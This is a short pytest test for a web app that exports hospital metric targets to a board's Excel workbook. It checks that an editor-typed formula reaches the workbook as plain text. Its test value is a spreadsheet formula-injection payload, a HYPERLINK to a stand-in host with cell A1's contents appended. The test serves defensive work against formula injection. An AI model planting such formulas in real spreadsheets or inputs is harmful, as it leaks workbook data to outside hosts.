"""What an editor types reaches the board's workbook as text, never as a live formula."""

from __future__ import annotations

import io

from openpyxl import load_workbook

METRIC = "hipfx_surgery_36h"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Open the evidence")'


def test_a_targets_basis_typed_as_a_formula_is_text_in_the_board_workbook(clients):
    editor = clients["editor"]
    form = {"value": "85", "basis": FORMULA, "csrf_token": editor.csrf}
    assert editor.post(f"/metrics/{METRIC}/target", data=form, follow_redirects=False).status_code == 303
    book = load_workbook(io.BytesIO(clients["viewer"].get("/reports/stocktake.xlsx").content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(isinstance(cell.value, str) and FORMULA in cell.value for cell in cells)
